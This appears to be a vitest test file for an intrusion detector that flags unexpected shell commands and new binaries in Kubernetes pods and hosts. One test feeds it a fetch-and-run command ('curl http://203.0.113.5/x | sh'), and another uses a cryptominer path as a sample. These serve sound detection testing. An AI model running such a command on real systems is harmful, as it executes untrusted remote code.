import { describe, expect, it } from 'vitest';
import { create, findingsAcrossRestart, run, seeded, vector } from '../testing/vectors.ts';
import { commandInterpreter } from './detector.ts';

const POD = 'pod:shop/catalog-5c7b';

/** A pod that starts with `sh -c` (entrypoint), then only runs its server and a health probe binary it knows. */
function normalPod(windows: number, seed: number, from = 0) {
  const rand = seeded(seed);
  return Array.from({ length: windows }, (_, k) => {
    const i = from + k;
    return vector(POD, {
      exec_count: i < 2 ? 3 : rand() < 0.1 ? 1 : 0, shell_exec_count: i < 2 ? 1 : 0, new_binary_count: i < 2 ? 2 : 0, history_age_s: 3600 + i * 10,
    }, { window: i, attributes: { 'k8s.pod.name': 'catalog-5c7b', 'k8s.namespace.name': 'shop', 'host.name': 'node-1' } });
  });
}

/** A build host running shells in a third of its windows all day. */
function shellyHost(windows: number, seed: number) {
  const rand = seeded(seed);
  return Array.from({ length: windows }, (_, i) => {
    const shells = rand() < 0.3 ? 1 + Math.floor(rand() * 3) : 0;
    return vector('host:build-1', { exec_count: shells * 4, shell_exec_count: shells, new_binary_count: 0, history_age_s: 86_400 }, { window: i });
  });
}

describe('command_interpreter', () => {
  it('fires T1059.004 on a shell in a settled pod that never runs one, naming the command', async () => {
    const { detector } = await create(commandInterpreter);
    expect(run(detector, normalPod(100, 1))).toEqual([]);
    const f = detector.score(vector(POD, { exec_count: 2, shell_exec_count: 1, new_binary_count: 0, history_age_s: 5000 }, {
      window: 100, examples: { shell_execs: ['/bin/sh -c id'] }, attributes: { 'k8s.pod.name': 'catalog-5c7b', 'k8s.namespace.name': 'shop', 'host.name': 'node-1' },
    }));
    expect(f).toMatchObject({
      detector: 'command_interpreter', kind: 'intrusion',
      threat: { tactic: { id: 'TA0002' }, technique: { id: 'T1059' }, subtechnique: { id: 'T1059.004' } },
      context: { host: { name: 'node-1' }, orchestrator: { resource: { name: 'catalog-5c7b' } } },
    });
    expect(f!.message).toContain('/bin/sh -c id');
  });

  it('fires on a new binary once the history is warm, with the shell and binary both in the explanation', async () => {
    const { detector } = await create(commandInterpreter);
    run(detector, normalPod(100, 2));
    const f = detector.score(vector(POD, { exec_count: 3, shell_exec_count: 1, new_binary_count: 1, history_age_s: 5000 }, { window: 100, examples: { new_binaries: ['/tmp/xmrig'] } }))!;
    expect(f.explanation.map((e) => e.feature)).toEqual(['shell_exec_count', 'new_binary_count']);
    expect(f.explanation.reduce((s, e) => s + e.share, 0)).toBeCloseTo(1, 9);
    expect(f.message).toContain('/tmp/xmrig');
    const binaryOnly = detector.score(vector(POD, { exec_count: 1, shell_exec_count: 0, new_binary_count: 1, history_age_s: 5000 }, { window: 101 }))!;
    expect(binaryOnly.threat?.subtechnique).toBeUndefined();
  });

  it('stays quiet on entrypoint shells of a starting pod and on hosts that run shells all day', async () => {
    const { detector } = await create(commandInterpreter);
    expect(run(detector, normalPod(2000, 3))).toEqual([]);
    const host = shellyHost(3000, 4);
    const findings = run(detector, host);
    // Until it has learnt that shells are usual here it may speak, then never again.
    expect(findings.every((f) => f.windowEndMs < host[300].windowEndMs)).toBe(true);
  });

  it('is quiet on a routine shell command it has seen on this entity, and speaks on a new one', async () => {
    const { detector } = await create(commandInterpreter);
    run(detector, normalPod(100, 7));
    const cron = (window: number, command: string) => vector(POD, { shell_exec_count: 1, new_binary_count: 0, history_age_s: 9000 }, { window, examples: { shell_execs: [command] } });
    expect(detector.score(cron(100, '/bin/sh -c /opt/rotate-logs'))).toBeDefined();
    expect(detector.score(cron(130, '/bin/sh -c /opt/rotate-logs'))).toBeUndefined();
    expect(detector.score(cron(160, '/bin/sh -c curl http://203.0.113.5/x | sh'))).toBeDefined();
  });

  it('is quiet while the first-seen history is young (cold start)', async () => {
    const { detector } = await create(commandInterpreter);
    const young = Array.from({ length: 30 }, (_, i) => vector(POD, { exec_count: 5, shell_exec_count: 1, new_binary_count: 3, history_age_s: i * 10 }, { window: i }));
    expect(run(detector, young)).toEqual([]);
  });

  it('gives the same answers after a restart from its persisted store', async () => {
    const vectors = [...normalPod(100, 5), vector(POD, { shell_exec_count: 2, new_binary_count: 0, history_age_s: 5000 }, { window: 100 }), ...normalPod(20, 6, 101)];
    const { straight, restarted } = await findingsAcrossRestart(commandInterpreter, {}, vectors, 90, 5);
    expect(straight).toHaveLength(1);
    expect(restarted).toEqual(straight);
  });
});
